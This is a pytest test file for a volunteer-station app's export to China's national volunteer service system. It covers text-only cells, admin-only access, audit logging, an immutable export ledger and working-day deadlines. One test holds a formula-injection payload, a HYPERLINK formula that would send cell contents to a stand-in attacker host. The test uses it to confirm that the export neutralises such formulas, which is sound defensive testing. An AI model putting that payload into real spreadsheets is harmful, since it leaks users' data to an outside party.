"""导出到全国志愿服务信息系统: the 办法's field set, text cells, full IDs, admins only,
the audit entry, remembered records and the 10-working-day figure."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.exc import DBAPIError
from volunteers_factory import make_id, make_world, new_volunteer

from app.errors import PermissionDenied, ValidationError
from app.i18n import restore_catalog, use_catalog
from app.models import AuditEntry, NationalExport, NationalExportRecord
from app.services import policy
from app.services.volunteers import hours as service_hours
from app.services.volunteers import national
from app.services.volunteers.national import NationalChoice

MONDAY = date(2026, 11, 30)


@pytest.fixture
def w(station_db, data_dir):
    db, admin = station_db
    return make_world(db, admin, data_dir)


def _approved(w, vid: str, day: date, minutes: int = 90, content: str = "清扫村道") -> str:
    record = service_hours.add_manual_record(
        w.db, w.worker, vid, day, minutes, content, "纸质签到表补录"
    )
    service_hours.approve(w.db, w.admin, [record.id])
    return record.id


def _person(w, name: str = "张三", seq: str = "124", **kw) -> str:
    return new_volunteer(
        w.db,
        w.worker,
        name,
        sex="F",
        id_number=make_id("19850301", seq=seq),
        phone="13800001234",
        group_name="第二村民小组",
        **kw,
    )


def _sheets(path: Path):
    wb = load_workbook(path)
    return wb["志愿者基本信息"], wb["服务记录"]


def test_the_file_holds_the_fields_of_the_rules_as_text_with_the_full_id(w, tmp_path) -> None:
    vid = _person(w)
    _approved(w, vid, date(2026, 11, 20), 90)
    pending = service_hours.add_manual_record(
        w.db, w.worker, vid, date(2026, 11, 21), 60, "不算", "补录"
    )
    path = tmp_path / "national.xlsx"
    result = national.export_xlsx(w.db, w.admin, NationalChoice(), path)
    assert (result.persons, result.records, result.minutes) == (1, 1, 90)
    people, records = _sheets(path)
    rows = [[c.value for c in row] for row in people.iter_rows()]
    assert tuple(rows[0]) == national.PERSON_HEADER
    assert {"姓名", "性别", "出生日期", "身份证件号码", "居住区域", "联系方式"} <= set(rows[0])
    assert {"专业技能", "服务类别"} <= set(rows[0])
    id_number = make_id("19850301", seq="124")
    assert rows[1][1:7] == [
        "张三",
        "女",
        "1985-03-01",
        id_number,
        "城关镇东风村第二村民小组",
        "13800001234",
    ]
    rec = [[c.value for c in row] for row in records.iter_rows()]
    assert tuple(rec[0]) == national.RECORD_HEADER
    assert len(rec) == 2  # the pending record is not exported
    assert rec[1][2:8] == [id_number, "清扫村道", "2026-11-20", None, "清扫村道", "1.5"]
    assert pending.id not in {r for r in rec[1]}
    # every cell a text cell (data_type 's'), the 18 digits intact, no number cells
    for sheet in (people, records):
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
    assert len(id_number) == 18 and id_number in rows[1]


def test_a_worker_is_refused_with_a_translated_message(w, tmp_path) -> None:
    _approved(w, _person(w), date(2026, 11, 20))
    path = tmp_path / "x.xlsx"
    with pytest.raises(PermissionDenied) as refused:
        national.export_xlsx(w.db, w.worker, NationalChoice(), path)
    with pytest.raises(PermissionDenied):
        national.preview(w.db, w.worker, NationalChoice())
    assert not path.exists()
    before = use_catalog("zh_CN")
    try:
        message = str(refused.value)
    finally:
        restore_catalog(before)
    assert message and not re.search("[A-Za-z]", message), message


def test_the_export_is_audited_and_remembered_and_not_offered_again(w, tmp_path) -> None:
    a, b = _person(w, "张三"), _person(w, "李四", seq="246")
    first = [_approved(w, a, date(2026, 11, 20)), _approved(w, b, date(2026, 11, 23))]
    assert national.preview(w.db, w.admin, NationalChoice()).records == 2
    result = national.export_xlsx(w.db, w.admin, NationalChoice(), tmp_path / "1.xlsx")
    assert (result.persons, result.records) == (2, 2)
    with w.db.read() as s:
        entry = s.scalars(select(AuditEntry).where(AuditEntry.action == "national.export")).one()
        assert entry.operator_name == w.admin.display_name
        assert '"persons": 2' in entry.summary and '"records": 2' in entry.summary
        linked = set(s.scalars(select(NationalExportRecord.record_id)))
        assert linked == set(first)
        assert s.scalar(select(func.count()).select_from(NationalExport)) == 1
    # the default choice (not exported yet) now offers only the new record
    later = _approved(w, a, date(2026, 11, 24))
    preview = national.preview(w.db, w.admin, NationalChoice())
    assert (preview.persons, preview.records) == (1, 1)
    national.export_xlsx(w.db, w.admin, NationalChoice(), tmp_path / "2.xlsx")
    _people, records = _sheets(tmp_path / "2.xlsx")
    assert records.max_row == 2 and records["E2"].value == "2026-11-24"
    with pytest.raises(ValidationError):
        national.export_xlsx(w.db, w.admin, NationalChoice(), tmp_path / "3.xlsx")
    assert not (tmp_path / "3.xlsx").exists()
    # a chosen period exports again, and keeps each record's first link
    again = NationalChoice(date(2026, 11, 1), date(2026, 11, 30), only_new=False)
    assert national.export_xlsx(w.db, w.admin, again, tmp_path / "4.xlsx").records == 3
    with w.db.read() as s:
        assert s.scalar(select(func.count()).select_from(NationalExportRecord)) == 3
        assert later in set(s.scalars(select(NationalExportRecord.record_id)))


def test_the_remembered_exports_are_a_ledger(w, tmp_path) -> None:
    _approved(w, _person(w), date(2026, 11, 20))
    national.export_xlsx(w.db, w.admin, NationalChoice(), tmp_path / "1.xlsx")
    for statement in (
        "UPDATE national_export_record SET minutes = 1",
        "DELETE FROM national_export_record",
        "UPDATE national_export SET records = 0",
    ):
        with pytest.raises(DBAPIError), w.db.write() as s:
            s.connection().exec_driver_sql(statement)


def test_formula_looking_text_is_written_as_text(w, tmp_path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    vid = _person(w, address="@SUM(1+1)")
    _approved(w, vid, date(2026, 11, 20), content=hostile)
    path = tmp_path / "n.xlsx"
    national.export_xlsx(w.db, w.admin, NationalChoice(), path)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml
    people, records = _sheets(path)
    cells = [people["F2"], records["D2"], records["G2"]]
    assert [c.value for c in cells] == ["@SUM(1+1)", hostile, hostile]
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix is True


def _working_days(day: date, today: date) -> int:
    return sum(
        1 for n in range(1, (today - day).days + 1) if (day + timedelta(days=n)).weekday() < 5
    )


def test_the_due_figure_counts_close_and_overdue_records_not_exported(w, tmp_path) -> None:
    vid = _person(w)
    old, eight, six = date(2026, 11, 13), date(2026, 11, 18), date(2026, 11, 20)
    assert [_working_days(d, MONDAY) for d in (old, eight, six)] == [11, 8, 6]
    _approved(w, vid, old)
    _approved(w, vid, eight)
    _approved(w, vid, six)
    service_hours.add_manual_record(w.db, w.worker, vid, old, 60, "待审", "补录")  # pending
    due = national.national_export_due(w.db, MONDAY)
    assert (due.close, due.overdue, due.oldest, due.warn_days) == (1, 1, old, 7)
    # exported records leave the figure
    national.export_xlsx(w.db, w.admin, NationalChoice(old, old), tmp_path / "old.xlsx")
    due = national.national_export_due(w.db, MONDAY)
    assert (due.close, due.overdue, due.oldest) == (1, 0, eight)


def test_working_days_back_skips_weekends() -> None:
    assert national.working_days_back(MONDAY, 1) == date(2026, 11, 29)  # Sunday
    assert national.working_days_back(MONDAY, 2) == date(2026, 11, 26)  # Thursday
    for n in range(1, 15):
        assert _working_days(national.working_days_back(MONDAY, n), MONDAY) == n


def test_the_warning_threshold_is_a_setting(w) -> None:
    vid = _person(w)
    _approved(w, vid, date(2026, 11, 18))  # 8 working days before MONDAY
    assert national.national_export_due(w.db, MONDAY).close == 1
    rules = policy.get_volunteer_policy(w.db)
    policy.set_volunteer_policy(w.db, w.admin, replace(rules, national_warn_days=9))
    due = national.national_export_due(w.db, MONDAY)
    assert (due.close, due.overdue, due.warn_days) == (0, 0, 9)
    with pytest.raises(ValidationError):
        policy.set_volunteer_policy(w.db, w.admin, replace(rules, national_warn_days=11))
